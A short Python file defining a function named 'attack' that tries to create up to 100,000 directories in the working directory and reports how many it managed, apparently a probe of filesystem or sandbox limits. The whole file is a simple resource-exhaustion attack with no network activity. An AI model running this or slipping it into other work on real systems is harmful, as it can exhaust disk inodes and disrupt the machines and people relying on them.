import os


def attack(facts):
    count = 0
    try:
        while count < 100_000:
            os.mkdir(f"d{count}")
            count += 1
    except OSError:
        pass
    return {} if count < 20_000 else {"folders": count}
